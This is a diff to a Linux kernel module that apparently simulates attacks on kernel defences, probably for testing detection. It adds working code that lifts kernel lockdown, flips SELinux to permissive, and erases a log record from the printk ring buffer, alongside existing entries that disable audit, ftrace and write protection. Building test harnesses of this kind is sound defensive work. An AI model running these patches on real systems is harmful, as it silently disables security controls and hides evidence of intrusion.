@@ -110,7 +110,7 @@ static int set_byte(struct patch *patch, const char *symbol, u8 value)
 	return patch_apply(patch, at, &value, 1);
 }
 
-static struct patch locked, kptr, tracer, killed_tracer, audit, taint, record;
+static struct patch locked, lockdown, enforcing, kptr, tracer, killed_tracer, audit, taint, record, gone;
 
 // Only where modules were disabled before; nobody but an attacker can enable them again. As this module cannot come
 // in then, it disables them itself: with "lock" as ARGUMENT that is all.
@@ -122,6 +122,34 @@ static int unlocked_on(const char *argument)
 static void unlocked_off(void)
 {
 	patch_revert(&locked);
+}
+
+static int lockdown_on(const char *argument)
+{
+	return set_byte(&lockdown, "kernel_locked_down", 0);
+}
+
+static void lockdown_off(void)
+{
+	patch_revert(&lockdown);
+}
+
+// struct selinux_state begins with it, or has it behind `disabled`, which is gone since 6.4.
+static int selinux_on(const char *argument)
+{
+	static const u8 no;
+	u8 *state = attack_symbol("selinux_state");
+	if (!state)
+		return -EOPNOTSUPP;
+#ifdef CONFIG_SECURITY_SELINUX_DISABLE
+	state++;
+#endif
+	return *state == 1 ? patch_apply(&enforcing, state, &no, 1) : -EALREADY;
+}
+
+static void selinux_off(void)
+{
+	patch_revert(&enforcing);
 }
 
 static int kptr_on(const char *argument)
@@ -197,6 +225,41 @@ static void record_off(void)
 	patch_revert(&record);
 }
 
+// The beginning of the kernel's own struct printk_ringbuffer and struct prb_desc (5.10, 896fbe20b4e2).
+struct record_ring {
+	unsigned int count_bits;
+	struct {
+		atomic_long_t state;
+		unsigned long begin, next;
+	} *records;
+	void *details;
+	atomic_long_t head, tail;
+};
+
+// A record in the midst of the log becomes one that nobody wrote yet: who reads the log goes on behind it.
+static int removed_on(const char *argument)
+{
+	const unsigned long free = 3UL << (BITS_PER_LONG - 2);
+	struct record_ring **pointer = attack_symbol("prb"), *ring;
+	unsigned long tail, id, state;
+	atomic_long_t *at;
+	if (!pointer)
+		return -EOPNOTSUPP;
+	ring = *pointer;
+	tail = atomic_long_read(&ring->tail);
+	id = (tail + (atomic_long_read(&ring->head) - tail) / 2) & ~free;
+	at = &ring->records[id & ((1UL << ring->count_bits) - 1)].state;
+	if ((atomic_long_read(at) & ~free) != id)
+		return -EAGAIN;
+	state = id | free;
+	return patch_apply(&gone, at, &state, sizeof(state));
+}
+
+static void removed_off(void)
+{
+	patch_revert(&gone);
+}
+
 // Every CPU may write to read-only pages; nothing does.
 static void set_write_protection(void *on)
 {
@@ -221,12 +284,15 @@ struct attack attack_defences[] = {
 	{"lsm_hook_removed", lsm_remove_on, lsm_remove_off},
 	{"lsm_hook_replaced", lsm_replace_on, lsm_replace_off},
 	{"modules_enabled", unlocked_on, unlocked_off},
+	{"lockdown_lifted", lockdown_on, lockdown_off},
+	{"selinux_permissive", selinux_on, selinux_off},
 	{"kptr_restrict", kptr_on, kptr_off},
 	{"ftrace_off", tracer_on, tracer_off},
 	{"ftrace_killed", killed_tracer_on, killed_tracer_off},
 	{"audit_off", audit_on, audit_off},
 	{"taint_reset", taint_on, taint_off},
 	{"log_record_changed", record_on, record_off},
+	{"log_record_removed", removed_on, removed_off},
 	{"write_protection_off", write_protection_on, write_protection_off},
 	{},
 };
